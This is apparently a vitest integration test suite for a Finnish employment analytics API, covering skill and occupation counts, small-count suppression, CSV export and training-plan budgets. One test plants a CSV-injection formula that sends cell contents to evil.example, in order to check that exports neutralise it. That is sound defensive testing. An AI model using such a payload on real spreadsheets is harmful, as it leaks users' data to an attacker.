import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveArea } from '../../src/core/analytics/areas.js';
import { countsBehind } from '../../src/core/analytics/random-rounding.js';
import { trainedSkills } from '../../src/core/analytics/training-plan.js';
import { regions } from '../../src/core/regions/regions.js';
import { call, type Caller, removeDir, sampleJobseeker, sampleVacancy, build, type RunningService } from '../helpers/service.js';

let service: RunningService;
let planner: Caller;
let admin: Caller;
const AS_OF = '2026-11-01'; // the fixture generator's reference date
/** Figures are counted at the month end before AS_OF (2026-10-31): long-term since 12 months before it. */
const LONG_TERM_SINCE = '2025-10-31';

interface Concept {
  uri: string;
}
interface StoredVacancy {
  id: string;
  municipality: string;
  occupation?: string;
  status: string;
  positions: number;
  languages: string[];
  publishedAt?: string;
  normalized: { essential: Concept[]; optional: Concept[]; duplicateOf?: string };
}
interface StoredJobseeker {
  id: string;
  municipality: string;
  occupation?: string;
  status: string;
  languages: string[];
  unemployedSince?: string;
  normalized: { skills: Concept[] };
}

let vacancies: StoredVacancy[];
let jobseekers: StoredJobseeker[];
let areas: { id: string; municipalities: string[] }[];

/** Open vacancies count as demand once: a repeat of another (same employer, place and text) does not. */
const counted = (v: StoredVacancy) => v.status === 'open' && !v.normalized.duplicateOf;

async function all<T>(kind: string): Promise<T[]> {
  const items: T[] = [];
  let after = '';
  for (;;) {
    const page = (await call(admin, 'GET', `/v1/${kind}?limit=500${after ? `&after=${after}` : ''}`)).body;
    items.push(...page.items);
    if (!page.next) return items;
    after = page.next;
  }
}

beforeAll(async () => {
  // Every record of a small area goes through the match engine (no sampling) in these tests.
  service = await build({ env: { KOHTAANTO_ANALYTICS_SAMPLE: '400' } });
  planner = service.as('planner');
  admin = service.as('admin');
  vacancies = await all<StoredVacancy>('vacancies');
  jobseekers = await all<StoredJobseeker>('jobseekers');
  areas = (await call(planner, 'GET', '/v1/employment-areas')).body.items;
});
afterAll(async () => {
  await service.stop();
  removeDir(service.dataDir);
});

/**
 * Whether a count of jobseekers is published as planners may see it (src/core/analytics/random-rounding.ts):
 * a multiple of 5 less than 5 away from the count, rounded at random, or "<5" (0 to 4; always below 3).
 */
function expectPublished(shown: number | '<5', n: number, what = '') {
  const { low, high } = countsBehind(shown);
  expect(n, `${what}: ${n} published as ${shown}`).toBeGreaterThanOrEqual(low);
  expect(n, `${what}: ${n} published as ${shown}`).toBeLessThanOrEqual(high);
  if (shown !== '<5') expect(shown % 5, `${what}: ${shown}`).toBe(0);
}

/** Skill counts computed here from the stored records, independently of the SQL behind the API. */
function expectedSkills(inArea: (m: string) => boolean, keepVacancy = (_v: StoredVacancy) => true, keepJobseeker = (_j: StoredJobseeker) => true) {
  const rows = new Map<string, { essential: number; optional: number; positions: number; supply: number }>();
  const row = (concept: string) => {
    const uri = concept.startsWith('text:') ? 'other' : concept; // free text is only ever counted together
    return rows.get(uri) ?? rows.set(uri, { essential: 0, optional: 0, positions: 0, supply: 0 }).get(uri)!;
  };
  for (const v of vacancies.filter((v) => counted(v) && inArea(v.municipality) && keepVacancy(v))) {
    for (const s of new Set(v.normalized.essential.map((c) => c.uri))) (row(s).essential++, (row(s).positions += v.positions));
    for (const s of new Set(v.normalized.optional.map((c) => c.uri))) (row(s).optional++, (row(s).positions += v.positions));
  }
  for (const j of jobseekers.filter((j) => j.status === 'active' && inArea(j.municipality) && keepJobseeker(j))) {
    for (const s of new Set(j.normalized.skills.map((c) => c.uri))) row(s).supply++;
  }
  return rows;
}

describe('employment areas', () => {
  it('put every municipality in exactly one area', async () => {
    const municipalities = (await call(planner, 'GET', '/v1/municipalities')).body.items.map((m: { code: string }) => m.code).sort();
    expect(areas.flatMap((a) => a.municipalities).sort()).toEqual(municipalities);
    expect(areas.find((a) => a.id === 'helsinki')!.municipalities).toEqual(['091']);
  });
});

describe('GET /v1/analytics/skills', () => {
  it('counts demand and supply per skill in an employment area exactly as the records say', async () => {
    const tampere = new Set(areas.find((a) => a.id === 'tampere')!.municipalities);
    const expected = expectedSkills((m) => tampere.has(m));
    const response = await call(planner, 'GET', `/v1/analytics/skills?area=tampere&limit=20000&asOf=${AS_OF}`);
    expect(response.status).toBe(200);
    expect(response.body.area).toMatchObject({ kind: 'employment-area', id: 'tampere' });
    expect(response.body.items).toHaveLength(expected.size);
    let shown = 0;
    for (const item of response.body.items) {
      const e = expected.get(item.uri)!;
      expect(item.demand, item.uri).toEqual({ vacancies: e.essential + e.optional, essential: e.essential, optional: e.optional, positions: e.positions });
      expectPublished(item.supply, e.supply, item.uri);
      if (item.supply !== '<5') {
        shown++;
        expect(item.gap).toBe(e.essential + e.optional - item.supply);
      } else {
        expect(item.supply).toBe('<5');
        expect(item.gap).toBeNull();
        expect(item.shortageRatio).toBeNull();
      }
    }
    expect(shown).toBeGreaterThan(10);
    // Largest gap first (a suppressed supply counts as 0 for the order).
    const order = response.body.items.map((i: { demand: { vacancies: number }; supply: number | string }) => i.demand.vacancies - (typeof i.supply === 'number' ? i.supply : 0));
    expect(order).toEqual([...order].sort((a, b) => b - a));
  });

  it('filters by publication window, language and ISCO group', async () => {
    const codes = new Set(regions.municipalitiesIn('01').map((m) => m.code));
    const from = '2026-10-01';
    const to = '2026-10-20';
    const inWindow = (v: StoredVacancy) => v.publishedAt! >= from && v.publishedAt! <= to;
    const swedish = (r: { languages: string[] }) => r.languages.includes('sv');
    const care = (r: { occupation?: string }) => (r.occupation ?? '').startsWith('53');
    const expected = expectedSkills((m) => codes.has(m), (v) => inWindow(v) && swedish(v) && care(v), (j) => swedish(j) && care(j));
    const response = await call(planner, 'GET', `/v1/analytics/skills?region=Uusimaa&from=${from}&to=${to}&language=sv&occupationGroup=53&limit=20000`);
    expect(response.status).toBe(200);
    const got = new Map(response.body.items.map((i: { uri: string; demand: { vacancies: number }; supply: number | string }) => [i.uri, i]));
    expect(got.size).toBe(expected.size);
    expect(expected.size).toBeGreaterThan(0);
    for (const [uri, e] of expected) {
      const item = got.get(uri) as { demand: { vacancies: number }; supply: number | string };
      expect(item.demand.vacancies).toBe(e.essential + e.optional);
      expectPublished(item.supply as number | '<5', e.supply, uri);
    }
  });

  it('neutralises formulas from vacancies in CSV exports (OWASP CSV injection)', async () => {
    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const put = await call(admin, 'PUT', '/v1/vacancies/CSV-ATTACK', {
      title: 'Varastotyöntekijä',
      description: 'Keräilyä ja pakkaamista.',
      skills: [attack],
      occupation: attack,
      municipality: 'Kauniainen',
    });
    expect(put.status).toBeLessThan(300);
    const csv = (await call(planner, 'GET', '/v1/analytics/occupations?municipality=Kauniainen&format=csv&limit=20000')).body as string;
    const cells = csv.split('\r\n').flatMap((line) => line.split(';'));
    // Free text never reaches planners (it is counted as "other"); what does reach them is neutralised.
    expect(csv).not.toContain('HYPERLINK');
    expect(cells.some((c) => /^"?[=+@-]/.test(c) && !/^-?\d/.test(c))).toBe(false);
    await call(admin, 'DELETE', '/v1/vacancies/CSV-ATTACK');
  });

  it('exports the same table as CSV', async () => {
    const json = (await call(planner, 'GET', '/v1/analytics/skills?area=helsinki&lang=sv&limit=50')).body.items;
    const response = await call(planner, 'GET', '/v1/analytics/skills?area=helsinki&lang=sv&limit=50&format=csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    // For Excel in Finland: semicolons, a decimal comma, headers in the asked language (the byte order mark: test/http/csv.test.ts).
    const lines = (response.body as string).replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0]).toBe('uri;namn;efterfrågan_jobb;efterfrågan_nödvändig;efterfrågan_meriterande;efterfrågan_platser;utbud_arbetssökande;underskott;bristkvot');
    expect(lines).toHaveLength(json.length + 1);
    const first = json[0];
    expect(lines[1]!.startsWith(`${first.uri};`)).toBe(true);
    expect(lines[1]).toContain(`;${first.demand.vacancies};`);
    const ratio = json.find((i: { shortageRatio: number | null }) => i.shortageRatio !== null && !Number.isInteger(i.shortageRatio));
    if (ratio) expect(lines.find((l) => l.startsWith(`${ratio.uri};`))).toContain(`;${String(ratio.shortageRatio).replace('.', ',')}`);
    const en = await call(planner, 'GET', '/v1/analytics/skills?area=helsinki&lang=en&limit=50&format=csv');
    expect((en.body as string).replace(/^\uFEFF/, '').split('\r\n')[0]).toBe('uri;label;demand_vacancies;demand_essential;demand_optional;demand_positions;supply_jobseekers;gap;shortage_ratio');
  });

  it('rejects two places at once, unknown areas and bad filters, naming the field', async () => {
    for (const [query, field] of [
      ['area=tampere&region=06', 'region'],
      ['area=atlantis', 'area'],
      ['municipality=Atlantis', 'municipality'],
      ['occupationGroup=5x', 'occupationGroup'],
      ['from=2026-13-01', 'from'],
      ['language=de', 'language'],
      ['format=xml', 'format'],
    ]) {
      const response = await call(planner, 'GET', `/v1/analytics/skills?${query}`);
      expect(response.status, query).toBe(400);
      expect(response.body.problems.map((p: { field: string }) => p.field), query).toContain(field);
    }
  });

  it('is for planners and admins only', async () => {
    for (const role of ['counsellor', 'employer-service'] as const) {
      expect((await call(service.as(role), 'GET', '/v1/analytics/skills')).status).toBe(403);
    }
  });
});

describe('suppression of small counts', () => {
  it('never shows a count of fewer than 5 jobseekers, in JSON or CSV, and names no one', async () => {
    const kauniainen = (m: string) => m === '235';
    const expected = expectedSkills(kauniainen);
    // 1 and 2 are always "<5"; 3 and 4 may be published as 5 (random-rounding.ts).
    const small = [...expected].filter(([, e]) => e.supply > 0 && e.supply < 3);
    expect(small.length).toBeGreaterThan(0); // the fixture has such cells: the test can fail
    for (const path of ['skills', 'occupations']) {
      const body = (await call(planner, 'GET', `/v1/analytics/${path}?municipality=Kauniainen&limit=20000`)).body;
      for (const item of body.items) {
        for (const n of [item.supply, item.longTermUnemployed].filter((x) => x !== undefined)) expect(n === '<5' || n >= 5).toBe(true);
        if (item.supply === '<5') expect([item.gap, item.shortageRatio]).toEqual([null, null]);
      }
      const csv = (await call(planner, 'GET', `/v1/analytics/${path}?municipality=Kauniainen&format=csv&limit=20000&lang=en`)).body as string;
      const header = csv.replace(/^\uFEFF/, '').split('\r\n')[0]!.split(';');
      for (const line of csv.trim().split('\r\n').slice(1)) {
        const cells = line.split(';');
        const supply = cells.at(header.indexOf('supply_jobseekers') - header.length)!;
        expect(supply === '<5' || Number(supply) >= 5, line).toBe(true);
      }
    }
    for (const [uri] of small) {
      const item = (await call(planner, 'GET', `/v1/analytics/skills?municipality=Kauniainen&limit=20000`)).body.items.find((i: { uri: string }) => i.uri === uri);
      expect(item.supply).toBe('<5');
    }
    const summary = await call(planner, 'GET', `/v1/analytics/mismatch?municipality=Kauniainen&asOf=${AS_OF}`);
    const text = JSON.stringify(summary.body);
    expect(text).not.toMatch(/JS-\d{6}/);
    const local = jobseekers.filter((j) => j.status === 'active' && kauniainen(j.municipality));
    expectPublished(summary.body.jobseekers, local.length, 'jobseekers');
  });
});

describe('what planners never see (issue 14, finding 3)', () => {
  it('free text a person wrote appears only inside one "other" row, in JSON and CSV', async () => {
    const secret = { skills: ['vankilasta vapautunut', 'raskaana'], occupation: 'Matti Meikäläinen 010190-123A' };
    const put = await call(admin, 'PUT', '/v1/jobseekers/FREE-TEXT', {
      id: 'FREE-TEXT',
      title: 'varastotyöntekijä',
      summary: 'Varastotyötä etsin.',
      municipality: 'Kauniainen',
      ...secret,
    });
    expect(put.status).toBe(201);
    expect(put.body.normalized.skills.some((s: { uri: string }) => s.uri.startsWith('text:'))).toBe(true); // the test can fail
    for (const path of ['skills', 'occupations']) {
      for (const format of ['json', 'csv']) {
        const body = (await call(planner, 'GET', `/v1/analytics/${path}?municipality=Kauniainen&limit=20000&format=${format}`)).body;
        const text = typeof body === 'string' ? body : JSON.stringify(body);
        for (const word of ['vankilasta', 'raskaana', 'Meikäläinen', '010190']) expect(text, `${path} ${format}`).not.toContain(word);
      }
    }
    const skills = (await call(planner, 'GET', '/v1/analytics/skills?municipality=Kauniainen&limit=20000&lang=en')).body.items;
    expect(skills.find((i: { uri: string }) => i.uri === 'other')).toMatchObject({ label: 'other (not in the taxonomy)' });
    expect(skills.filter((i: { uri: string }) => i.uri.startsWith('text:'))).toEqual([]);
    await call(admin, 'DELETE', '/v1/jobseekers/FREE-TEXT');
  });

  it('differencing nested areas no longer recovers a suppressed count', async () => {
    const area = areas.find((a) => a.id === 'tampere')!;
    const whole = (await call(planner, 'GET', `/v1/analytics/skills?area=tampere&limit=20000`)).body.items;
    const parts = await Promise.all(
      area.municipalities.map(async (m) => (await call(planner, 'GET', `/v1/analytics/skills?municipality=${m}&limit=20000`)).body.items),
    );
    /** Possible true counts behind a published one (a municipality without the skill's row has none: exactly 0). */
    const range = (shown: number | string): [number, number] => {
      if (shown === 0) return [0, 0];
      const { low, high } = countsBehind(shown as number | '<5');
      return [low, high];
    };
    let attacked = 0;
    let recoveredFromExact = 0;
    for (const item of whole) {
      const cells = parts.map((items) => items.find((i: { uri: string }) => i.uri === item.uri)?.supply ?? 0);
      const hidden = cells.flatMap((c, i) => (c === '<5' ? [i] : []));
      if (hidden.length !== 1 || item.supply === '<5') continue;
      attacked++;
      // The review's attack: the area's total minus the other municipalities' counts.
      const others = cells.filter((_c, i) => i !== hidden[0]).map((c) => range(c as number | string));
      const [low, high] = range(item.supply);
      const min = Math.max(0, low - others.reduce((s, r) => s + r[1], 0));
      const max = Math.min(4, high - others.reduce((s, r) => s + r[0], 0));
      if (max - min < 1) expect.fail(`${item.uri}: the suppressed count is exactly ${min}`);
      // Control: with exact counts (as before rounding) the same attack pins the cell down.
      const exact = expectedSkills((m) => m === area.municipalities[hidden[0]!]).get(item.uri)?.supply ?? 0;
      if (exact >= 1) recoveredFromExact++;
    }
    expect(attacked).toBeGreaterThan(0);
    expect(recoveredFromExact).toBeGreaterThan(0);
  });
});

describe('GET /v1/analytics/occupations', () => {
  it('counts vacancies, positions, jobseekers and long-term unemployed per occupation', async () => {
    const oulu = new Set(areas.find((a) => a.id === 'oulu')!.municipalities);
    const expected = new Map<string, { vacancies: number; positions: number; supply: number; longTerm: number }>();
    const row = (isco: string) => expected.get(isco) ?? expected.set(isco, { vacancies: 0, positions: 0, supply: 0, longTerm: 0 }).get(isco)!;
    for (const v of vacancies.filter((v) => counted(v) && oulu.has(v.municipality))) (row(v.occupation!).vacancies++, (row(v.occupation!).positions += v.positions));
    for (const j of jobseekers.filter((j) => j.status === 'active' && oulu.has(j.municipality))) {
      row(j.occupation!).supply++;
      if (j.unemployedSince! <= LONG_TERM_SINCE) row(j.occupation!).longTerm++;
    }
    const body = (await call(planner, 'GET', `/v1/analytics/occupations?area=oulu&asOf=${AS_OF}`)).body;
    expect(body.items).toHaveLength(expected.size);
    for (const item of body.items) {
      const e = expected.get(item.isco)!;
      expect(item.demand, item.isco).toEqual({ vacancies: e.vacancies, positions: e.positions });
      expectPublished(item.supply, e.supply, `${item.isco} supply`);
      expectPublished(item.longTermUnemployed, e.longTerm, `${item.isco} long-term`);
    }
  });
});

interface Hit {
  standing: string;
}
/**
 * Suitable as the planner's figures count it: what a client's page marks suitable (`standing`, src/core/suitability.ts),
 * not the score and skills alone (issue 29: a pair failing a licence, beyond the commute or in other work is not).
 */
const isSuitableHit = (h: Hit) => h.standing === 'suitable';

describe('GET /v1/analytics/mismatch', () => {
  it('gives vacancies per jobseeker and both match-engine shares, checked against the match endpoints', async () => {
    const municipality = '398'; // Lahti: an area of its own
    const open = vacancies.filter((v) => counted(v) && v.municipality === municipality);
    const active = jobseekers.filter((j) => j.status === 'active' && j.municipality === municipality);
    const longTerm = active.filter((j) => j.unemployedSince! <= LONG_TERM_SINCE);
    const body = (await call(planner, 'GET', `/v1/analytics/mismatch?area=lahti&candidates=2&asOf=${AS_OF}`)).body;
    expect(body.vacancies).toBe(open.length);
    expectPublished(body.jobseekers, active.length, 'jobseekers');
    expectPublished(body.longTermUnemployed, longTerm.length, 'long-term unemployed');
    expect(body.vacanciesPerJobseeker).toBeCloseTo(open.length / body.jobseekers, 2);
    // Recount both shares with the match endpoints a counsellor uses.
    // A vacancy is staffed by its count of suitable local candidates as published (rounded at random to 5,
    // src/core/analytics/mismatch.ts): 5 or more always are, 3 or 4 may be, 2 or fewer never.
    let surely = 0;
    let maybe = 0;
    for (const v of open) {
      const hits = (await call(admin, 'GET', `/v1/vacancies/${v.id}/candidates?k=5&municipality=${municipality}`)).body.hits as Hit[];
      const suitable = hits.filter((h) => isSuitableHit(h)).length;
      if (suitable >= 5) surely++;
      else if (suitable >= 3) maybe++;
    }
    let stranded = 0;
    for (const j of longTerm) {
      const best = (await call(admin, 'GET', `/v1/jobseekers/${j.id}/matches?k=20&municipality=${municipality}`)).body.hits as Hit[];
      if (!best.some((h) => isSuitableHit(h))) stranded++;
    }
    expect(body.vacanciesWithSuitableCandidates).toMatchObject({ matched: open.length, of: open.length, margin95: 0 });
    const staffed = Math.round(body.vacanciesWithSuitableCandidates.share * open.length);
    expect(staffed).toBeGreaterThanOrEqual(surely);
    expect(staffed).toBeLessThanOrEqual(surely + maybe);
    expect(body.vacanciesWithSuitableCandidates.share).toBeCloseTo(staffed / open.length, 3);
    // Over jobseekers: published counts, and the share to 0.05 of a count of the stranded published as the others are.
    expect(body.longTermWithoutSuitableVacancy).toMatchObject({ matched: body.longTermUnemployed, of: body.longTermUnemployed });
    const strandedShown = Array.from({ length: body.longTermUnemployed / 5 + 1 }, (_x, i) => 5 * i).filter((k) => {
      const { low, high } = countsBehind(k === 0 ? '<5' : k);
      return stranded >= low && stranded <= high;
    });
    expect(strandedShown.map((k) => Math.round(Math.round(k / body.longTermUnemployed / 0.05) * 0.05 * 100) / 100)).toContain(body.longTermWithoutSuitableVacancy.share);
    for (const o of body.shortageOccupations) expect(o.gap).toBeGreaterThan(0);
    for (const o of body.surplusOccupations) expect(o.gap).toBeLessThan(0);
  });
});

describe('POST /v1/analytics/training-plan', () => {
  it('proposes purchases within the budget whose claimed reach is achieved when the picks are applied', async () => {
    const response = await call(planner, 'POST', '/v1/analytics/training-plan', { region: 'Pirkanmaa', budget: { places: 8 }, asOf: AS_OF });
    expect(response.status).toBe(200);
    const plan = response.body;
    // Places are published rounded at random to 5 ("<5" for a purchase of 1-4, which then shows no cost or reach).
    expect(plan.places === '<5' || (plan.places % 5 === 0 && plan.places <= 10)).toBe(true);
    for (const p of plan.purchases) expect(p.places === '<5' ? p.vacanciesOpened === null && p.cost === null : p.places % 5 === 0).toBe(true);
    expect(JSON.stringify(plan)).not.toMatch(/JS-\d{6}/);
    for (const p of plan.purchases) expect(p.explanation).toContain(p.training.title);

    // The same plan with its clients (the engine's view; the HTTP answer names none), applied.
    const inside = await service.engine.analytics.planner.plan(resolveArea({ region: 'Pirkanmaa' }, regions, service.engine.employmentAreas), {
      budget: { places: 8 },
      lang: 'fi',
      today: AS_OF,
    });
    expect(inside.vacanciesOpened).toBeGreaterThan(0);
    // Published reach is the published places times what a place typically opens, not the exact picks' reach.
    for (const p of plan.purchases) if (p.places !== '<5') expect(p.vacanciesOpened).toBe(Math.round(p.places * inside.purchases.find((q) => q.training.id === p.training.id)!.typical.opens));
    expect(plan.purchases.map((p: { training: { id: string } }) => p.training.id)).toEqual(inside.purchases.map((p) => p.training.id));
    const suitable = async (id: string) =>
      new Set(
        ((await call(admin, 'GET', `/v1/jobseekers/${id}/matches?k=50&region=06`)).body.hits as (Hit & { id: string })[])
          .filter((h) => isSuitableHit(h))
          .map((h) => h.id),
      );
    const reached = new Set<string>();
    for (const pick of inside.picks) {
      const before = await suitable(pick.jobseeker);
      const client = (await call(admin, 'GET', `/v1/jobseekers/${pick.jobseeker}`)).body;
      const { normalized: _n, region: _r, createdAt: _c, updatedAt: _u, ...input } = client;
      const training = service.engine.trainings.get(pick.training);
      const trained = { ...input, skills: [...client.skills, ...trainedSkills(training, service.engine.normalizer)] };
      expect((await call(admin, 'PUT', `/v1/jobseekers/${pick.jobseeker}`, trained)).status).toBe(200);
      const after = await suitable(pick.jobseeker);
      for (const v of after) if (!before.has(v)) reached.add(v);
      for (const v of pick.adds) expect(after.has(v), `${pick.jobseeker} + ${pick.training} → ${v}`).toBe(true);
    }
    expect(reached.size).toBeGreaterThanOrEqual(inside.vacanciesOpened);
  });

  it('a budget swept a place at a time teaches nothing beyond the rounded places: plans alike in them are alike in every figure', async () => {
    // Before, each purchase's vacanciesOpened and effect.perPlace were exact over the exact picks and changed
    // with every extra pick, so the budget from which the plan stopped changing told the number of picks.
    const shownPlaces = (a: any) => JSON.stringify(a.purchases.map((p: any) => [p.training.id, p.places]));
    const shown = (a: any) => JSON.stringify([a.purchases, a.places, a.cost, a.vacanciesOpened, a.expectedEmployed]);
    const sweep = [];
    for (let b = 1; b <= 14; b++) sweep.push(await call(planner, 'POST', '/v1/analytics/training-plan', { region: 'Pirkanmaa', budget: { places: b }, asOf: AS_OF }).then((r) => ({ b, answer: r.body })));
    const telling: string[] = [];
    let alike = 0;
    for (const x of sweep) {
      for (const y of sweep) {
        if (x.b >= y.b || shownPlaces(x.answer) !== shownPlaces(y.answer)) continue;
        alike++;
        if (shown(x.answer) !== shown(y.answer)) telling.push(`${x.b} and ${y.b} places: ${shown(x.answer)} against ${shown(y.answer)}`);
      }
    }
    expect(alike, 'budgets whose purchases show the same places').toBeGreaterThan(0);
    expect(telling).toEqual([]);
  });

  it('keeps a budget in euros and rejects a bad budget naming the field', async () => {
    const plan = (await call(planner, 'POST', '/v1/analytics/training-plan', { area: 'helsinki', budget: { euros: 3000 }, asOf: AS_OF })).body;
    expect(plan.cost).toBeLessThanOrEqual(3000);
    for (const p of plan.purchases) expect(p.cost).toBe(p.places === '<5' ? null : p.places * p.training.costPerPlace);
    const bad = await call(planner, 'POST', '/v1/analytics/training-plan', { area: 'helsinki', budget: { places: -1 } });
    expect(bad.status).toBe(400);
    expect(bad.body.problems.map((p: { field: string }) => p.field).join()).toContain('budget');
  });
});

describe('published figures cannot be differenced (issue 28, L3)', () => {
  /** Municipalities without any fixture record, for records of these tests alone. */
  const emptyMunicipalities = async () => {
    const used = new Set([...vacancies, ...jobseekers].map((r) => r.municipality));
    const all = (await call(planner, 'GET', '/v1/municipalities')).body.items.map((m: { code: string }) => m.code) as string[];
    return all.filter((m) => !used.has(m) && !['235', '398', '091', '837'].includes(m));
  };
  const days = (month: string, last: number) => Array.from({ length: last }, (_x, i) => `${month}-${String(i + 1).padStart(2, '0')}`);

  it('gives the same figures for every asOf within a month, and says which day they are counted at', async () => {
    const [municipality] = await emptyMunicipalities();
    // Four long-term unemployed all month; a fifth becomes one on 15 October 2026.
    const starts = ['2025-01-10', '2025-02-10', '2025-03-10', '2025-04-10', '2025-10-15'];
    const ids = starts.map((_d, i) => `SWEEP-${i}`);
    try {
      for (const [i, since] of starts.entries()) {
        const j = { ...sampleJobseeker(ids[i]!), municipality: municipality!, unemployedSince: since };
        expect((await call(admin, 'PUT', `/v1/jobseekers/${ids[i]}`, j)).status).toBe(201);
      }
      for (const path of ['mismatch', 'occupations']) {
        const answers = new Set<string>();
        for (const day of days('2026-10', 30)) {
          const response = await call(planner, 'GET', `/v1/analytics/${path}?municipality=${municipality}&asOf=${day}`);
          expect(response.status).toBe(200);
          expect(response.body.asOf).toBe('2026-09-30');
          answers.add(JSON.stringify(response.body));
        }
        expect(answers.size, path).toBe(1);
      }
      // A month end is its own day: the fifth spell is long-term on 31 October.
      const monthEnd = (await call(planner, 'GET', `/v1/analytics/mismatch?municipality=${municipality}&asOf=2026-10-31`)).body;
      expect(monthEnd).toMatchObject({ asOf: '2026-10-31', longTermUnemployed: 5 });
      const before = (await call(planner, 'GET', `/v1/analytics/mismatch?municipality=${municipality}&asOf=2026-10-20`)).body;
      expectPublished(before.longTermUnemployed, 4, 'four long-term unemployed on 30 September');
      const exposure = await call(planner, 'GET', `/v1/oversight/exposure?municipality=${municipality}&source=replay&asOf=2026-10-20`);
      expect(exposure.body.asOf).toBe('2026-09-30');
    } finally {
      for (const id of ids) await call(admin, 'DELETE', `/v1/jobseekers/${id}`);
    }
  });

  it('publishes no share about a municipality with one jobseeker', async () => {
    const [, municipality] = await emptyMunicipalities();
    try {
      expect((await call(admin, 'PUT', '/v1/jobseekers/ALONE', { ...sampleJobseeker('ALONE'), municipality: municipality!, unemployedSince: '2024-01-01' })).status).toBe(201);
      expect((await call(admin, 'PUT', '/v1/vacancies/ALONE-V', { ...sampleVacancy('ALONE-V'), municipality: municipality! })).status).toBe(201);
      const body = (await call(planner, 'GET', `/v1/analytics/mismatch?municipality=${municipality}&candidates=1&asOf=${AS_OF}`)).body;
      expect(body.vacancies).toBe(1); // the share would be over this vacancy: the test can fail
      expect(body.jobseekers).toBe('<5');
      expect(body.vacanciesPerJobseeker).toBeNull();
      expect(body.vacanciesWithSuitableCandidates).toMatchObject({ share: null, margin95: 0, suppressed: 'fewer than 5 jobseekers' });
      expect(body.longTermWithoutSuitableVacancy).toMatchObject({ share: null, suppressed: 'fewer than 5 jobseekers' });
      const csv = String((await call(planner, 'GET', `/v1/analytics/mismatch?municipality=${municipality}&candidates=1&format=csv`)).body);
      expect(csv.split('\r\n')[1]!.split(';').slice(6, 9)).toEqual(['', '', '']);
    } finally {
      await call(admin, 'DELETE', '/v1/jobseekers/ALONE');
      await call(admin, 'DELETE', '/v1/vacancies/ALONE-V');
    }
  });
});
